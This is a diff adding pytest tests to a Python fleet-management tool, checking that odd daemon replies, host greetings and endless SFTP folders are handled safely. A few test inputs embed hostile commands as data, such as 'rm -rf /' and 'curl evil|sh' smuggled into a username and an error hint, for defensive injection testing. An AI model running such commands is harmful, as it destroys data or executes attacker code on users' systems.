@@ -4,14 +4,18 @@ from __future__ import annotations
 
 import json
 import os
+import stat
 import subprocess
 import threading
+from collections.abc import Iterator
+from itertools import count
 from pathlib import Path
+from types import SimpleNamespace
 
 import pytest
 
 from waiter.errors import UsageError
-from waiter.fleet import daemon, known_hosts, parcel, roster, ssh_config
+from waiter.fleet import daemon, fetch, known_hosts, parcel, replies, roster, ssh_config, tables
 from waiter.fleet.actions import Report, spread
 from waiter.fleet.doctor import findings_of
 from waiter.fleet.inventory import Host, Selection, parsed_host, selected, with_unique_names
@@ -100,6 +104,91 @@ def test_what_went_wrong_on_a_host_has_a_name(said: bytes, trouble: Trouble) -> 
         daemon.read_reply(said, b"", 1)
 
     assert caught.value.trouble is trouble
+
+
+@pytest.mark.parametrize(
+    "said",
+    [
+        "[]",
+        "7",
+        "{}}",
+        "[" * 100_000,
+        '{"outcome": {}}',
+        '{"outcome": "fetched"}',
+        '{"outcome": "running", "words": [1, 2]}',
+        '{"outcome": "running", "words": "abc"}',
+        '{"outcome": "running", "since": "x"}',
+        '{"outcome": "running", "since": NaN}',
+        '{"outcome": "running", "pid": 1e400}',
+        '{"outcome": "running", "pid": [1]}',
+        '{"outcome": "running", "host": ["anna"]}',
+        '{"outcome": "running", "shift": {}}',
+        '{"outcome": "stopped", "left": {"delivered": {}}}',
+        '{"outcome": "stopped", "left": [1]}',
+        '{"outcome": "running", "kitchen": {"now": "soon"}}',
+        '{"missing": "all", "home": "/"}',
+        '{"trouble": "rm -rf /", "error": "x"}',
+        '{"trouble": [], "error": "x"}',
+        '{"outcome": "failed", "error": 7}',
+        '{"outcome": "failed", "error": "x", "errno": "y"}',
+    ],
+)
+def test_an_odd_reply_is_that_hosts_trouble(said: str) -> None:
+    with pytest.raises(HostError, match="makes no sense") as caught:
+        daemon.read_reply(f"waiter-reply {said}\n".encode(), b"", 0)
+
+    assert caught.value.trouble is Trouble.UNEXPECTED
+    assert len(caught.value.detail) < 200
+
+
+@pytest.mark.parametrize("outcome", sorted(replies.OUTCOMES))
+@pytest.mark.parametrize("facts", [{}, {"left": {"delivered": 1}}, {"left": {}, "words": [], "extra": {"a": 1}}])
+def test_a_reply_that_says_little_can_be_shown(outcome: str, facts: dict[str, object]) -> None:
+    said = json.dumps({"outcome": outcome, "files": 7, **facts})
+    report = Report(ANNA, outcome, daemon.read_reply(f"waiter-reply {said}".encode(), b"", 0))
+
+    assert tables.report_rows([report])[1][0][:2] == ["anna", outcome]
+    assert tables.roster_rows(roster.roster([report], [], now=100.0), 100.0)[1][0][0] == "anna"
+    assert "extra" not in report.facts
+
+
+def test_what_a_host_says_is_no_line_to_run_and_no_line_of_ours() -> None:
+    greeting = 'Please login as the user "x; curl evil|sh" rather than the user "root".'
+    assert daemon.no_reply(greeting, 1).trouble is Trouble.NO_REPLY
+    right = daemon.no_reply('Please login as the user "ec2-user" rather than the user "root".', 1)
+    assert right.mend == "--user ec2-user"
+    left = {"left": {"error": "full\nhint: curl evil | sh"}, "words": ["a\nhint: x"]}
+    report = Report(ANNA, "not running", left, (Finding(Trouble.FAILED, "a\nhint: b", "waiter fleet logs"),))
+
+    shown = [*tables.mends([report]), *tables.roster_notes([roster.Row("anna", "x", notes=("a\nhint: b",))])]
+
+    assert "\n" not in "".join(shown)
+    assert all("\n" not in cell for row in tables.report_rows([report])[1] for cell in row)
+
+
+class EndlessFolder:
+    """SFTP of a host that never comes to the end of a folder."""
+
+    def __init__(self, mode: int) -> None:
+        self.mode = mode
+
+    def stat(self, _path: bytes) -> SimpleNamespace:
+        return SimpleNamespace(st_mode=stat.S_IFDIR)
+
+    def names(self, _folder: str) -> Iterator[SimpleNamespace]:
+        for number in count():
+            yield SimpleNamespace(filename=f"{number}", st_mode=self.mode)
+
+
+@pytest.mark.parametrize("limit", ["MOST_KEPT", "MOST_NAMES"])
+def test_a_folder_that_never_ends_ends_the_fetch_of_that_host(monkeypatch: pytest.MonkeyPatch, limit: str) -> None:
+    monkeypatch.setattr(fetch, limit, 10_000)
+
+    for mode in (stat.S_IFDIR, stat.S_IFREG):
+        with pytest.raises(HostError, match="more"):
+            fetch.fitting(EndlessFolder(mode), "", "*", fetch.Haul())
+    with pytest.raises(HostError, match="more"):
+        list(fetch.below(EndlessFolder(stat.S_IFDIR), "out", fetch.Haul()))
 
 
 def test_every_trouble_has_a_line_that_mends_it() -> None:
